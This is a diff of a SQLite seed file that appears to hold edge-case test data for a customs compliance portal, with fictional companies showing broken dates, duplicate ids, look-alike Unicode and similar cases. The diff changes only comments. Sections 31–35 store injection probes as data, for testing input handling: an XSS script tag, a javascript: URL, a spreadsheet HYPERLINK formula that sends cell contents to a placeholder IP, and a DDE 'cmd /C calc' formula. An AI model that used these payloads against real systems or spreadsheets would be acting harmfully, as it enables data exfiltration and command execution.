@@ -1,6 +1,6 @@
--- The cast of Portal 2.0: INSERT statements for SQLite, a story each. README.md tells them, cast.toml says which row shows which rule.
--- What belongs to profile 7 has ids from 700 to 799 (7: profile; 701, 702, ...: models, entities, users, ...), so that a key tells its story.
--- Characters that a reader cannot see are written as char(..), bytes that are no text as X'..'.
+-- The cast of Portal 2.0: INSERT statements for SQLite. README.md describes the companies, cast.toml lists which row demonstrates which rule.
+-- Rows of profile 7 have ids from 700 to 799 (7: profile; 701, 702, ...: models, entities, users, ...), so that a key identifies its profile.
+-- Invisible characters are written as char(..), bytes that are not valid text as X'..'.
 
 -- 0. catalogues -------------------------------------------------------------------------------------------------------
 INSERT INTO business_type (business_type_cd, name, active_ind) VALUES
@@ -29,7 +29,7 @@ INSERT INTO profile_question (question_id, criteria_version_id, category_no, cri
   (723, 3, 7, '7.23', 1, 'Describe the procedure for reporting an incident.'),
   (1101, 3, 11, '11.1', 1, 'How are applicants screened?'),
   (2101, 2, 1, '1.1', 1, 'The question of 2015 about management support.'),
-  -- A version that no catalogue has: catalogue rows are carried over unchecked.
+  -- A version that is not in the catalogue: catalogue rows load without checks.
   (9101, 9, 99, '99.1', 1, 'A draft question of a version that never came.');
 INSERT INTO question_applicability (question_id, business_type_cd, strength_cd) VALUES
   (101, 'IMP', 'MUST'), (101, 'EXP', 'SHOULD'), (101, 'BRK', 'MUST'), (101, 'CON', 'MUST'), (101, 'HWM', 'MUST'), (101, 'HWC', 'MUST'),
@@ -37,14 +37,14 @@ INSERT INTO question_applicability (question_id, business_type_cd, strength_cd) 
   (405, 'IMP', 'MUST'), (405, 'BRK', 'MUST'), (405, 'CON', 'SHOULD'),
   (601, 'IMP', 'SHOULD'), (601, 'CON', 'MUST'), (601, 'HWM', 'MUST'),          -- seals: not for brokers
   (702, 'CON', 'MUST'), (723, 'IMP', 'MUST'), (1101, 'IMP', 'MUST'), (2101, 'IMP', 'MUST'),
-  (101, 'EFC', 'SHOULD'),                                                      -- a type that the catalogue lacks
-  (9999, 'IMP', 'MUST');                                                       -- a question that the catalogue lacks
+  (101, 'EFC', 'SHOULD'),                                                      -- a type that is missing from the catalogue
+  (9999, 'IMP', 'MUST');                                                       -- a question that is missing from the catalogue
 INSERT INTO agreement_version (agreement_version_id, agreement_cd, version_no, business_type_cd, effective_dt, text_sha256) VALUES
   (1, 'VOLUNTARY', 1, NULL, '2001-11-01', NULL),
   (2, 'VOLUNTARY', 2, NULL, '2015-08-01', 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad'),
   (3, 'SVI_CONSENT', 1, NULL, '2008-01-01', NULL), (4, 'INTL_CONSENT', 1, NULL, '2012-01-01', NULL),
   (5, 'VOLUNTARY', 3, 'IMP', '2019-01-01', NULL), (6, 'VOLUNTARY', 3, 'HWC', '2019-01-01', NULL),
-  (7, 'VOLUNTARY', 3, 'EFC', '2022-01-01', NULL);                              -- for a type that the catalogue lacks
+  (7, 'VOLUNTARY', 3, 'EFC', '2022-01-01', NULL);                              -- for a type that is missing from the catalogue
 INSERT INTO cbp_user (cbp_user_id, display_name, role_cd, office_cd, active_ind) VALUES
   (1, 'Specialist One', 'SCSS', 'NEWARK', 'Y'), (2, 'Supervisor Two', 'SUPERVISOR', 'NEWARK', 'Y'),
   (3, 'Headquarters Three', 'HQ', NULL, 'Y'), (4, 'Retired Four', 'SCSS', 'BUFFALO', 'N');
@@ -180,7 +180,7 @@ INSERT INTO validation_finding VALUES (301, 301, 405, 'ACTION_REQUIRED', 'Update
 INSERT INTO finding_response (finding_response_id, finding_id, seq_no, response_text, submitted_by_user_id, submitted_at) VALUES
   (301, 301, 1, 'Ordered.', 301, '2022-03-01 00:00:00'), (302, 301, 2, 'Updated.', 301, '2022-04-01 00:00:00');
 
--- 4. Empty Shell Holdings: a profile without any entity; what hangs on it is held, its user still gets a login -------
+-- 4. Empty Shell Holdings: a profile without entities; its dependents are held, its user still gets a login ----------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (4, 'Empty Shell Holdings', '2019-01-01 00:00:00', '2019-01-01 00:00:00', 'N');
 INSERT INTO company_address VALUES (401, 4, 'HEADQUARTERS', '4 Nowhere', NULL, 'Dover', 'DE', '19901', 'US', 'Y', 'Y', '2019-01-01 00:00:00');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
@@ -191,7 +191,7 @@ INSERT INTO document (document_id, library_cd, company_profile_id, file_name, ve
 INSERT INTO document_content VALUES (401, CAST('Plans of a company that never came.' AS BLOB));
 INSERT INTO event_history VALUES (401, 4, NULL, 'CREATED', NULL, 'Gus Ghost', '2018-12-31 19:00:00');
 
--- 5. Half Built Carriers: a model without entities beside a good one -------------------------------------------------
+-- 5. Half Built Carriers: a model without entities and a valid one ---------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (5, 'Half Built Carriers', '2010-01-01 00:00:00', '2010-01-01 00:00:00', 'N');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
   (501, 'ada@half-built.example', 'x', 'Ada', 'Bell', 'ACTIVE', '2010-01-01 00:00:00', '2010-01-01 00:00:00');
@@ -221,7 +221,7 @@ INSERT INTO security_model VALUES
 INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
   (601, 601, '3PL', '10000601', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00'),
   (602, 602, '3PL', '1304-DUP', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00'),          -- held: does not compete with 1304
-  (603, 698, '3PL', 'M000001302', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00');        -- held: is no clash for 1302
+  (603, 698, '3PL', 'M000001302', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00');        -- held: does not conflict with 1302
 INSERT INTO company_address (address_id, company_profile_id, address_type_cd, city, mailing_ind, primary_ind, modified_at) VALUES
   (602, 699, 'HEADQUARTERS', 'Nowhere', 'Y', 'Y', '2011-01-01 00:00:00');
 INSERT INTO entity_status_history (history_id, entity_id, status_cd, from_at) VALUES
@@ -234,7 +234,7 @@ INSERT INTO response_comment VALUES
   (602, 699, 1, 'N', 'Held, and yet its bytes are kept: a' || char(0) || 'b.', '2011-01-01 00:00:00');
 INSERT INTO message VALUES (601, 699, NULL, 1, 'In a thread that never was.', '2011-01-01 00:00:00');
 
--- 7. Damaged Dates Seafreight: dates as the portal once damaged them; nobody repairs them ----------------------------------------------
+-- 7. Damaged Dates Seafreight: implausible dates, which are loaded unchanged -----------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, business_start_dt, employee_count_txt, created_at, modified_at, deleted_ind) VALUES
   (7, 'Damaged Dates Seafreight', '0001-01-01', '', '2001-11-01 00:00:00', '2015-08-02 03:00:00', 'N');
 INSERT INTO company_contact VALUES
@@ -245,7 +245,7 @@ INSERT INTO model_entity VALUES (701, 701, 'SEA', NULL, '10000701', 'CERTIFIED',
 INSERT INTO entity_identifier VALUES (701, 7, NULL, 'SCAC', 'DDSF', 'Y', '0001-01-01', '9999-12-31');
 INSERT INTO entity_status_history VALUES (701, 701, 'CERTIFIED', '3', '2015-08-01 00:00:00', '2002-01-01 00:00:00', 'Ends before it begins.', NULL);
 
--- 8. Turned Away Exports: four entities, four ways out of the program --------------------------------------------------------------------
+-- 8. Turned Away Exports: four entities that left the program in four ways ---------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES (8, 'Turned Away Exports', '0', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
   (801, 'olga@turned-away.example', 'x', 'Olga', 'Reiss', 'ACTIVE', '2012-01-01 00:00:00', '2012-01-01 00:00:00');
@@ -259,7 +259,7 @@ INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, accoun
   (803, 803, 'EXP', '10000803', 'REMOVED', '2', '2014-01-01 00:00:00', '2020-01-01 00:00:00'), (804, 804, 'EXP', '10000804', 'WITHDRAWN', '1', '2015-01-01 00:00:00', '2020-01-01 00:00:00');
 INSERT INTO entity_identifier VALUES (801, 8, NULL, 'EIN', '80-0000001', 'Y', NULL, NULL);
 
--- 9. Closed Wing Terminals: a soft-deleted model beside a live one, and one whose mark is no 'Y' -----------------------------------------
+-- 9. Closed Wing Terminals: a soft-deleted model, an active one, and one whose indicator is not 'Y' --------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (9, 'Closed Wing Terminals', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO company_contact VALUES
   (901, 9, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Uma', 'Wing', 'uma@closed-wing.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2012-01-01 00:00:00');
@@ -298,9 +298,9 @@ INSERT INTO security_profile (security_profile_id, security_model_id, criteria_v
 INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
   (1101, 1101, 101, 'A must for the carriers that became HWM and HWC, not applicable to those that stayed HWY.', 'COMPLETE', '2022-01-01 00:00:00');
 INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, signer_user_id, signer_name, signed_at) VALUES
-  (1101, 6, 11, 1101, 'Hank Hauler', '2019-02-01 00:00:00');          -- for HWC: on the account that became one
+  (1101, 6, 11, 1101, 'Hank Hauler', '2019-02-01 00:00:00');          -- for HWC: on the account that became HWC
 
--- 12. New Kinds Commerce: business types that the catalogue lacks -------------------------------------------------------------------------
+-- 12. New Kinds Commerce: business types that is missing from the catalogue ---------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (12, 'New Kinds Commerce', '2022-01-01 00:00:00', '2022-01-01 00:00:00', 'N');
 INSERT INTO company_contact VALUES
   (1201, 12, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Nia', 'Newman', 'nia@new-kinds.example', NULL, NULL, '2022-01-01 00:00:00', NULL, '2022-01-01 00:00:00');
@@ -308,7 +308,7 @@ INSERT INTO security_model VALUES (1201, 12, 'Fulfilment', 'APPLICATION', NULL, 
 INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
   (1201, 1201, 'EFC', '10001201', 'APPLICANT', '2022-01-01 00:00:00', '2022-01-01 00:00:00'), (1202, 1201, 'imp', '10001202', 'APPLICANT', '2022-01-01 00:00:00', '2022-01-01 00:00:00');
 
--- 13. Number Please: account numbers that are missing, blank, doubled, or taken by a made one ---------------------------------------------
+-- 13. Number Please: account numbers that are missing, blank, duplicate, or equal to a generated one --------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES (13, 'Number Please', '2147483647', '2015-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO company_contact VALUES
   (1301, 13, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Nils', 'Nummer', 'nils@number-please.example', NULL, NULL, '2015-01-01 00:00:00', NULL, '2015-01-01 00:00:00');
@@ -319,7 +319,7 @@ INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, accoun
   (1305, 1301, '3PL', '1304-DUP', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'), (1306, 1301, '3PL', 'M000001301', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
   (1307, 1301, '3PL', 'M000001301X', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'), (1308, 1301, '3PL', '1304-dup', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
   (1309, 1301, '3PL', CAST(X'4E2D31333039FF' AS TEXT), 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
-  (1310, 1301, '3PL', CAST(X'4E2D31333039FE' AS TEXT), 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00');      -- equal after the repair of both
+  (1310, 1301, '3PL', CAST(X'4E2D31333039FE' AS TEXT), 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00');      -- equal after invalid bytes are replaced
 
 -- 14, 15. Straße Logistik, twice: equal names, two companies ------------------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES
@@ -373,7 +373,7 @@ INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_nam
   (1809, char(1072) || 'na@one-mailbox.example', 'x', 'Ana', 'Dot', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),        -- a Cyrillic a
   (1810, 'Straße@one-mailbox.example', 'x', 'Eva', 'Weiß', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
   (1811, 'STRASSE@one-mailbox.example', 'x', 'EVA', 'WEISS', 'ACTIVE', NULL, '2011-01-01 00:00:00', '2020-01-01 00:00:00'),
-  (1812, char(65313) || 'na@one-mailbox.example', 'x', 'Ana', 'Wide', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),       -- a wide A
+  (1812, char(65313) || 'na@one-mailbox.example', 'x', 'Ana', 'Wide', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),       -- a full-width A
   (1813, char(304) || 'pek@one-mailbox.example', 'x', 'Ipek', 'Ak', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),         -- a capital I with a dot
   (1814, 'ipek@one-mailbox.example', 'x', 'Ipek', 'Ak', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00');
 INSERT INTO company_contact (contact_id, company_profile_id, user_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, first_name, added_at, modified_at) VALUES
@@ -389,7 +389,7 @@ INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, accoun
   (1801, 1801, 'BRK', '10001801', 'CERTIFIED', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
 INSERT INTO entity_identifier VALUES (1801, 18, NULL, 'FILER', 'XYZ', 'Y', NULL, NULL), (1802, 18, NULL, 'LICENSE', '1801', 'Y', NULL, NULL);
 
--- 19. Locked Gates Rail: users locked for every reason, users without a usable address, users without anything ------------------------------------
+-- 19. Locked Gates Rail: users locked for every reason, users without a usable address, users without data ----------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (19, 'Locked Gates Rail', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, lock_reason_cd, last_login_at, created_at, modified_at) VALUES
   (1901, char(12288) || 'pat@locked-gates.example', 'x', 'Pat', 'Gate', 'LOCKED', 'PASSWORD', '2022-01-01 00:00:00', '2010-01-01 00:00:00', '2022-01-01 00:00:00'),   -- an ideographic space in front
@@ -432,7 +432,7 @@ INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, accoun
   (2001, 2001, 'EXP', '10002001', 'CERTIFIED', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
 INSERT INTO entity_identifier VALUES (2001, 20, NULL, 'DUNS', '200000001', 'Y', NULL, NULL);
 
--- 21. Document House and 22. Next Door: every fate of a document and of a link ------------------------------------------------------------------------
+-- 21. Document House and 22. Next Door: every outcome for a document and a link -----------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
   (21, 'Document House', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (22, 'Next Door', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
@@ -574,19 +574,19 @@ INSERT INTO agreement_signature (signature_id, agreement_version_id, company_pro
   (2302, 2, 23, 2302, NULL, 2301, 'Inka Trail', '2016-01-01 00:00:00'),       -- the model's
   (2303, 1, 23, NULL, NULL, 2301, 'Inka Trail', '2010-01-01 00:00:00'),       -- the profile's, from before the air carrier's account
   (2304, 2, 23, NULL, 2303, 2301, 'Inka Trail', '2016-01-01 00:00:00'),       -- the entity's, from before it was created
-  (2305, 99, 23, NULL, 2301, 2301, 'Inka Trail', '2016-01-01 00:00:00'),      -- an agreement that nobody knows
+  (2305, 99, 23, NULL, 2301, 2301, 'Inka Trail', '2016-01-01 00:00:00'),      -- an unknown agreement version
   (2306, 2, 23, NULL, 2301, 1701, 'Per Lindqvist', '2016-01-01 00:00:00'),    -- a consultant's
-  (2307, 2, 23, NULL, 2301, 2301, 'Inka Trail', '2099-01-01 00:00:00'),       -- of the future
-  (2308, 2, 23, NULL, 2301, 2301, 'Inka Trail', '2015-07-31 23:59:59'),       -- a second too early
+  (2307, 2, 23, NULL, 2301, 2301, 'Inka Trail', '2099-01-01 00:00:00'),       -- in the future
+  (2308, 2, 23, NULL, 2301, 2301, 'Inka Trail', '2015-07-31 23:59:59'),       -- one second too early
   (2309, 5, 23, NULL, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for importers: on one account of three
   (2310, 6, 23, NULL, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for a type that this profile lacks: on all
-  (2311, 2, 23, NULL, 2302, 2399, 'Nobody Known', '2016-01-01 00:00:00'),     -- by a user that never was
-  (2312, 7, 23, 2302, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for a type that the catalogue lacks
-  (2313, 2, 23, NULL, 2397, 2301, 'Inka Trail', '2016-01-01 00:00:00');       -- for an entity that never was
+  (2311, 2, 23, NULL, 2302, 2399, 'Nobody Known', '2016-01-01 00:00:00'),     -- by a user that does not exist
+  (2312, 7, 23, 2302, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for a type that is missing from the catalogue
+  (2313, 2, 23, NULL, 2397, 2301, 'Inka Trail', '2016-01-01 00:00:00');       -- for an entity that does not exist
 INSERT INTO program_participation VALUES
   (2301, 23, 2301, 'PIP_CA', 'ACTIVE', 2399, '2012-06-01'), (2302, 23, NULL, 'NEEC_MX', 'ACTIVE', 2305, '2012-06-01');
 
--- 24. Every Answer Imports: answers given twice, answers that no store can hold, due dates around the freeze ------------------------------------------
+-- 24. Every Answer Imports: duplicate answers, answers that no store accepts, due dates around the freeze ---------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (24, 'Every Answer Imports', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
   (2401, 'eva@every-answer.example', 'x', 'Eva', 'Reply', 'ACTIVE', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
@@ -629,7 +629,7 @@ INSERT INTO validation (validation_id, company_profile_id, security_model_id, en
 INSERT INTO validation_visit (visit_id, validation_id, visit_name, country_cd) VALUES (2501, 2501, 'Both sites', 'VN');
 INSERT INTO svi_setting (company_profile_id, consent_signature_id, auto_accept_ind) VALUES (25, NULL, 'N');
 
--- 26. Watcher Exports and 27. Watched Freight: who may see whose status ----------------------------------------------------------------------------------
+-- 26. Watcher Exports and 27. Watched Freight: which company monitors which ------------------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
   (26, 'Watcher Exports', '2008-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (27, 'Watched Freight', '2009-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
@@ -652,14 +652,14 @@ INSERT INTO svi_link (link_id, monitor_profile_id, monitor_entity_id, monitored_
   (2602, 26, NULL, 27, NULL, 'DECLINED', '2012-01-01 00:00:00', 2601, '2012-01-05 00:00:00', NULL),       -- of 27 only the account of 2009 counts
   (2603, 26, NULL, 27, NULL, 'SENT', '2021-01-01 00:00:00', 2601, NULL, NULL),                            -- not answered: the request's date counts
   (2604, 26, 2601, 27, NULL, 'SENT', '2005-01-01 00:00:00', 2601, NULL, NULL),                            -- before 27 had any account
-  (2605, 26, 2601, 26, 2601, 'ACCEPTED', '2010-01-01 00:00:00', 2601, '2010-01-05 00:00:00', NULL),       -- watches itself
+  (2605, 26, 2601, 26, 2601, 'ACCEPTED', '2010-01-01 00:00:00', 2601, '2010-01-05 00:00:00', NULL),       -- monitors itself
   (2606, 26, 2601, 27, 2701, 'ACCEPTED', '2009-06-01 00:00:00', 2601, '2009-06-05 00:00:00', NULL),       -- the earliest of the pair
-  (2607, 26, 2601, 27, 2701, 'ACCEPTED', '2009-05-01 00:00:00', 2601, NULL, NULL),                        -- accepted, and nobody knows when
+  (2607, 26, 2601, 27, 2701, 'ACCEPTED', '2009-05-01 00:00:00', 2601, NULL, NULL),                        -- accepted at an unknown time
   (2608, 26, 2601, 699, NULL, 'SENT', '2010-01-01 00:00:00', 2601, NULL, NULL), (2609, 26, 2601, 4, NULL, 'SENT', '2020-01-01 00:00:00', 2601, NULL, NULL),
   (2610, 26, 697, 27, 2701, 'SENT', '2010-01-01 00:00:00', 2601, NULL, NULL), (2611, 27, 2702, 26, 2602, 'ENDED', '2021-01-01 00:00:00', 2699, '2021-02-01 00:00:00', '2022-01-01 00:00:00'),
-  (2612, 26, NULL, 26, NULL, 'DECLINED', '2021-01-01 00:00:00', 2601, '2021-02-01 00:00:00', NULL);       -- the profile watches itself: its accounts each other
+  (2612, 26, NULL, 26, NULL, 'DECLINED', '2021-01-01 00:00:00', 2601, '2021-02-01 00:00:00', NULL);       -- the profile monitors itself: its accounts monitor each other
 
--- 28. Identifier Zoo: numbers of the profile, of an entity, of both, of none -----------------------------------------------------------------------------
+-- 28. Identifier Zoo: numbers of the profile, of an entity, of both, of neither --------------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (28, 'Identifier Zoo', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO company_contact VALUES
   (2801, 28, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Zoe', 'Keeper', 'zoe@zoo.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
@@ -690,7 +690,7 @@ INSERT INTO entity_identifier VALUES
   (3001, NULL, 3001, 'IOR', '30-0000001', 'Y', NULL, NULL), (3002, NULL, 3002, 'IOR', '30-0000002', 'Y', NULL, NULL), (3003, 30, NULL, 'BOND', 'B-30', 'Y', NULL, NULL),
   (3004, NULL, 3001, 'IOR', '30-0000004', 'N', NULL, NULL);
 
--- 31, 32, 33, 35. names that want to be run, drawn or believed ---------------------------------------------------------------------------------------------
+-- 31, 32, 33, 35. names with commands, markup and misleading characters ------------------------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, dba_name, website, company_history, created_at, modified_at, deleted_ind) VALUES
   (31, '<script>alert("31")</script>', '&lt;b&gt;', 'javascript:alert(31)', '</pre><!-- ]]> {{ 7*7 }} ${7*7} %s %(x)s {0}', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
   (32, '=HYPERLINK("http://192.0.2.1/?"&A1,"32")', '@SUM(1+1)*cmd|'' /C calc''!A0', '-2+3', '+1' || char(9) || '=1+1', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
@@ -708,7 +708,7 @@ INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, accoun
   (3101, 3101, '3PL', '<i>3101</i>', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3201, 3201, '3PL', '=3201', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
   (3301, 3301, '3PL', char(27) || '[3301m', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3501, 3501, '3PL', '[red]3501[/red]', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
 
--- 34. Clockwork Carriers: events by New York's clock, which skips an hour in spring and repeats one in autumn ------------------------------------------
+-- 34. Clockwork Carriers: events in New York local time, which skips an hour in spring and repeats one in autumn ---------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (34, 'Clockwork Carriers', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO company_contact VALUES
   (3401, 34, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Tick', 'Tock', 'tick@clockwork.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
@@ -719,13 +719,13 @@ INSERT INTO entity_identifier VALUES (3401, 34, NULL, 'SCT', 'SCT-34', 'Y', NULL
 INSERT INTO event_history VALUES
   (3401, 34, 3401, 'LOGIN', NULL, 'tick', '2022-07-04 12:00:00'), (3402, 34, 3401, 'LOGIN', NULL, 'tick', '2022-01-04 12:00:00'),
   (3403, 34, 3401, 'LOGIN', NULL, 'tick', '2022-11-06 01:30:00'), (3404, 34, 3401, 'LOGIN', NULL, 'tick', '2023-03-12 02:30:00'),      -- repeated; skipped
-  (3405, 34, 3401, 'LOGIN', NULL, 'tick', '2022-11-06 02:00:00'), (3406, 34, 3401, 'LOGIN', NULL, 'tick', '2023-03-12 03:00:00'),      -- just behind both
+  (3405, 34, 3401, 'LOGIN', NULL, 'tick', '2022-11-06 02:00:00'), (3406, 34, 3401, 'LOGIN', NULL, 'tick', '2023-03-12 03:00:00'),      -- directly after both
   (3407, 34, 3401, 'LOGIN', NULL, 'tick', 'yesterday'), (3408, 34, 3401, 'LOGIN', NULL, 'tick', NULL), (3409, 34, 3401, 'LOGIN', NULL, 'tick', '2023-02-29 10:00:00'),
   (3410, 34, 3401, 'LOGIN', NULL, 'tick', '2023-1-1 00:00:00'), (3411, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-01 24:00:00'), (3412, 34, 3401, 'LOGIN', NULL, 'tick', ' 2023-01-01 00:00:00'),
   (3413, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-0' || char(1633) || ' 00:00:00'), (3414, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-01T00:00:00'), (3415, 34, NULL, 'LOGIN', '', '', ''),
   (3416, 34, 3401, 'LOGIN', NULL, 'tick', '2006-04-02 02:30:00'), (3417, 34, 3401, 'LOGIN', NULL, 'tick', '2006-10-29 01:00:00'), (3418, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-01 23:59:60');
 
--- 36 and 37 are the profiles of the numbers: ids that no float holds, ids below zero ----------------------------------------------------------------------
+-- 36 and 37 have unusual ids: beyond 53 bits, and negative ------------------------------------------------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
   (9007199254740993, 'Beyond Two To The 53', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (-37, 'Below Zero Cold Storage', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
 INSERT INTO company_contact (contact_id, company_profile_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, email, added_at, modified_at) VALUES
@@ -740,7 +740,7 @@ INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, accoun
 INSERT INTO event_history VALUES (9223372036854775807, 9007199254740993, 9007199254740993, 'CREATED', NULL, NULL, '2012-01-01 00:00:00'), (-9223372036854775808, -37, 0, 'CREATED', NULL, NULL, '2012-01-01 00:00:00');
 INSERT INTO highway_crossing VALUES (9007199254740993, '1|2'), (9007199254740992, '1|2'), (-3701, '|');
 
--- 38. Unreadable Values: what SQLite lets a column hold although its type does not ------------------------------------------------------------------------
+-- 38. Unreadable Values: values that SQLite accepts although the column's type does not allow them --------------------------------------------------------
 INSERT INTO company_profile (company_profile_id, company_name, business_start_dt, created_at, modified_at, deleted_ind) VALUES
   (38, 'Unreadable Values', '2023-02-30', '2012-01-01T00:00:00Z', '2020-01-01 00:00:00.5', 'N');
 INSERT INTO company_contact (contact_id, company_profile_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, email, phone, added_at, removed_at, modified_at) VALUES
@@ -750,18 +750,18 @@ INSERT INTO security_model VALUES
   (3801, 38, 'Readable', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3803, 38, 'Its only entity cannot be read', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
   (3806, 38, 'Its origin cannot be read', 'SPLIT', 'model 3801', '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3807, 38, 'Its date cannot be read', 'SPLIT', NULL, '2012-01-01', 'N', '2012-01-01 00:00:00');
 INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, anniversary_dt, scss_cbp_user_id, created_at, modified_at) VALUES
-  (3801, 3801, '3PL', '10003801', 'CERTIFIED', '2', '', 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),           -- '' is no date
+  (3801, 3801, '3PL', '10003801', 'CERTIFIED', '2', '', 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),           -- '' is not a valid date
